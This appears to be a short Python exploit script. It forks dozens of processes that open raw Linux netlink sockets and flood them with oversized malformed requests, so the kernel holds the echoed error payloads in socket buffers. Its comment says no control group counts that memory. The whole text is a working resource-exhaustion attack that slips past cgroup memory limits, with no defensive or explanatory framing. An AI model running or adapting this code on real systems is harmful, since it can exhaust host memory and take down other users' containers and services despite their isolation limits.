# Refused requests come back with their payload and wait in the socket; no control group counts it.
request = (100_016).to_bytes(4, "little") + bytes([16, 0, 5, 0]) + bytes(8 + 100_000)
held = []
for _ in range(40):
    if os.fork() == 0:
        break
while True:
    try:
        one = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
        held.append(one)
        one.setblocking(False)
        for _ in range(8):
            one.send(request)
    except OSError:
        if not held or len(held) > 1000:
            break
import time
time.sleep(60)
